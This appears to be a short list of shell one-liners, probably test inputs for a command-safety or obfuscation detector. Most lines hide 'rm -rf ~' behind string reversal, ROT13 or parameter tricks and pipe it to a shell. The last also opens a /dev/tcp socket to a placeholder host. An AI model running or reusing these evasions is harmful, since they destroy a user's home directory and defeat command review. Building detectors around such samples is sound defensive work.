echo '~ fr- mr' | rev | sh
echo 'ez -es ~' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash
rev <<< 'abc' | tr -d X | tr '\040-~' '\041-~' | sh
eval "$(echo 'cba' | rev)"
set -- rm -rf ~; "$@"; export B=${B}x; exec 3<>/dev/tcp/$h/$p
